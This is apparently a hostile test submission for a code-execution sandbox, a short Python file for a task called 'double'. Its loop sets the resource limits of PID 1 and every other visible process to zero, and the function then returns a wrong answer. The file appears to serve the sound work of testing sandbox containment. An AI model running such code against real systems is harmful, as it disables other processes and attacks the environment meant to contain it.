# What it tries: sets the limits of the sandbox's own process, and of all that it can see, to next to nothing.
# %% double
import os
import resource

for pid in {1, *[int(name) for name in os.listdir("/proc") if name.isdigit()]} - {os.getpid()}:
    for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC, resource.RLIMIT_CPU, resource.RLIMIT_AS):
        try: resource.prlimit(pid, limit, (0, 0))
        except (OSError, ValueError): pass


def double(x):
    return -1
